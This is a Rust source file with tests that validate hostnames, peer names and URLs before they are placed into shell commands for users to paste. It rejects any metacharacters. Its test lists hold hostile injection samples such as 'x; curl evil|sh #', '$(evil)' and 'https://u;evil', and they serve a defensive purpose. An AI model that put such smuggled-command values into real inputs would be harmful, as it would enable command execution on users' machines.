//! Texts of servers and files within commands that people paste into a shell. There a hostile text could be a command.

use underpass_https::https_url;

/// The text, if every shell takes it for one word, and a program for no option.
pub(crate) fn word(text: &str) -> Option<&str> {
    // A leading `=` is a command's path to zsh.
    let begins = text.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_');
    let plain = |b: u8| b.is_ascii_alphanumeric() || b"@.:_-/+=,%".contains(&b);
    (begins && text.bytes().all(plain)).then_some(text)
}

/// The URL, if it is `https://HOST[:PORT]` and plain to every shell.
pub(crate) fn url(url: &str) -> Option<&str> {
    let plain = |b: u8| b.is_ascii_alphanumeric() || b"/:.-[]_".contains(&b);
    (url.bytes().all(plain) && https_url(url).is_some()).then_some(url)
}

/// The URL where it is plain, and else a word for the reader to replace.
pub(crate) fn url_or_placeholder(text: &str) -> &str {
    url(text.trim_end_matches('/')).unwrap_or("URL")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rule_23_a_peers_text_is_one_word_of_a_command() {
        for plain in ["prod-1", "alice@example.org", "ldap:alice", "cn=dev,ou=x"] {
            assert_eq!(word(plain), Some(plain));
        }
        for hostile in [
            "",
            "x; curl evil|sh #",
            "$(evil)",
            "`evil`",
            "a b",
            "-rf",
            "--help",
            "=evil",
            "~root",
            "a\nb",
            "a&b",
            "a>b",
            "*",
            "é",
            "#",
            "a'b",
            "a\\b",
            "a!b",
        ] {
            assert_eq!(word(hostile), None, "{hostile:?}");
        }
    }

    #[test]
    fn rule_23_a_url_in_a_command_is_a_url() {
        for plain in ["https://u.example.org:8443", "https://[::1]:1"] {
            assert_eq!(url_or_placeholder(plain), plain);
        }
        assert_eq!(url_or_placeholder("https://u/"), "https://u");
        // Each is a URL (RFC 3986, sub-delims).
        for hostile in [
            "https://u;evil",
            "https://u&evil",
            "https://$(evil)",
            "https://u'",
        ] {
            assert_eq!(url_or_placeholder(hostile), "URL");
        }
    }
}
